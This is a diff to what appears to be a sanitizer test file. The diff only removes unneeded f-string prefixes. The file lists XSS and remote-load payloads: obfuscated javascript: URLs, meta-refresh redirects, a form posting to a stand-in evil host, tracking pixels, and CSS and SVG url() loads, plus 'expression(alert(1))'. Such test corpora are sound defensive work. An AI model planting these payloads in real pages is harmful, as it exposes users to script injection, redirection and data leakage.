@@ -45,9 +45,9 @@ URLS = [
     "javascript&colon;{a}", "&#x6A;avascript:{a}", "\\x6Aavascript:{a}",
 ]
 REDIRECTS = [
-    f'<meta http-equiv="refresh" content="0;url={EVIL}/">', f"<base href={EVIL}/>", f'<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
+    f'<meta http-equiv="refresh" content="0;url={EVIL}/">', f"<base href={EVIL}/>", '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
     f"<form action={EVIL}/ method=post><input name=q autofocus></form>", f"<a href=/ ping={EVIL}/p>x</a>", f"<iframe src={EVIL}/></iframe>",
-    f"<link rel=prefetch href={EVIL}/x>", f"<link rel=dns-prefetch href=//evil.example>", f"<link rel=preconnect href={EVIL}>",
+    f"<link rel=prefetch href={EVIL}/x>", "<link rel=dns-prefetch href=//evil.example>", f"<link rel=preconnect href={EVIL}>",
     f"<link rel=stylesheet href={EVIL}/x.css>", f"<img src={EVIL}/pixel.gif alt=x>", f"<img srcset='/a.png 1x, {EVIL}/b.png 2x' alt=x>",
     f"<video poster={EVIL}/p.png></video>", f"<picture><source srcset={EVIL}/x.webp><img src=/x.png alt=x></picture>", f"<svg><image href={EVIL}/x.png /></svg>",
     f"<svg><use href={EVIL}/s.svg#a /></svg>", f"<input type=image src={EVIL}/i.png>", f"<body background={EVIL}/b.png>", f"<table background={EVIL}/t.png>",
@@ -60,7 +60,7 @@ CSS = [
     f"p{{background:image-set('a.png' 1x,'{EVIL}/f.png' 2x)}}", f"p{{background:-webkit-image-set(url(a.png) 1x,url({EVIL}/g.png) 2x)}}",
     f"@font-face{{font-family:x;src:url({EVIL}/h.woff2)}}p{{font-family:x}}", f"p{{cursor:url({EVIL}/i.cur),auto}}", f"p{{list-style:url({EVIL}/j.png)}}",
     f"p{{border-image:url({EVIL}/k.png) 30}}", f"p{{mask:url({EVIL}/l.svg#m)}}", f"p{{content:url({EVIL}/m.png)}}", f"p{{background:url(\"{EVIL}/n\\\".png\")}}",
-    f"p{{background:url({EVIL}/o.png)/**/}}", f"p{{background-image:url(//evil.example/p.png)}}", "p{width:expression(alert(1))}", "p{-moz-binding:url(x.xml#x)}",
+    f"p{{background:url({EVIL}/o.png)/**/}}", "p{background-image:url(//evil.example/p.png)}", "p{width:expression(alert(1))}", "p{-moz-binding:url(x.xml#x)}",
 ]
 SVG = [
     f'<svg><rect width=9 height=9 fill="url({EVIL}/a#x)"/></svg>', f'<svg><rect width=9 height=9 mask="url({EVIL}/b#m)"/></svg>',
